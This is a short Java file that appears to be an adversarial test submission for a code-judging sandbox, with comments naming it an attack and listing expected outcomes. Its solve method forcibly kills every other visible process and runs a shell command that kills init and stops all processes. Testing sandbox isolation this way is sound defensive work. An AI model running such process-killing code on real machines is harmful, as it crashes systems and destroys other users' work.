// attack: ends every process that it can name, its own machine's threads, and the first one
// expect: runtime_error wrong_answer timeout
class Solution {
    static String solve(int n) throws Exception {
        ProcessHandle.allProcesses().filter(p -> p.pid() != ProcessHandle.current().pid()).forEach(ProcessHandle::destroyForcibly);
        new ProcessBuilder("/bin/sh", "-c", "kill -9 {{PID}} 1; kill -STOP -1").inheritIO().start().waitFor();
        return "alone";
    }
}
